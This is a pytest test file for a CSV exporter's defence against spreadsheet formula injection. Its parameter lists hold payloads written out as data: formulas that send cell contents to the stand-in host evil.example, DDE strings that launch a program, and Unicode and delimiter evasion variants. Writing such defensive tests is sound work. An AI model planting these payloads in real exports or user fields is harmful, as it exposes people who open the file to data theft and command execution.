"""An attacker signs up under a name that is a formula, and waits until somebody opens the exported
table: the formula sends the other cells elsewhere or starts a program (ASVS 1.2.10).
"""

from __future__ import annotations

import csv
import io
import time
from decimal import Decimal

import pytest

from zenith.content import csv_cell, csv_lines

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    *("\u202e=1+1", "\u2060=1+1", "\xad=1+1", "\u180e=1+1", "\ufe66=1+1", "\ufe621+1", "\ufe6bx"),
    "\x00=1+1",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "|calc",
    "%0A=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    "-1+1",
    "+1+1",
    "\u2212cmd|x",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown(formula):
    assert csv_cell(formula).startswith("'")


SECOND = [
    "a;=1+1",
    'a";=1+1;"',
    "a\t=1+1",
    "a|=1+1",
    'a",=1+1,"',
    "a\n=1+1",
    "a\r=1+1",
    'a"\n"=1+1',
    "a;=cmd|' /C calc'!A0;b",
    'a; "" +1+cmd|x',
    "a;\xa0\u200b@SUM(1)",
    "a;\n\uff1d1+1",
    "a;;=1;-1+x",
]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("value", SECOND)
def test_a_formula_is_not_the_next_cell_for_programs_of_other_separators(value, delimiter):
    """Behind the first cell of a row a program that separates otherwise sees no quotes."""
    text = "".join(csv_lines([[value], ["x", value], ["x", value, "y"]]))
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            start = cell.lstrip(' "\xa0\u200b')
            assert not start.startswith(("=", "+", "-", "@", "|", "\uff1d")), row


@pytest.mark.parametrize(
    "text",
    [
        "a = b; c + d",
        "a;b=c",
        "mail a@b.example | x",
        "one\ntwo",
        "https://a.example/?b=c;d=e",
        "a, -b",
    ],
)
def test_text_that_is_no_formula_stays_as_it_is(text):
    assert csv_cell(text) == text


def test_long_blanks_take_no_time():
    began = time.process_time()
    for blank in ("\n", ";", " ", '"', "\u200b"):
        csv_cell("x" + blank * 200_000 + "y" + ";")
    assert time.process_time() - began < 1


SMALL = Decimal("-1E-9")


def test_numbers_stay_numbers():
    assert [csv_cell(each) for each in (-5, -1.5, "-5", "+5", "-1,5", SMALL)] == [
        "-5",
        "-1.5",
        "-5",
        "+5",
        "-1,5",
        "-1E-9",
    ]
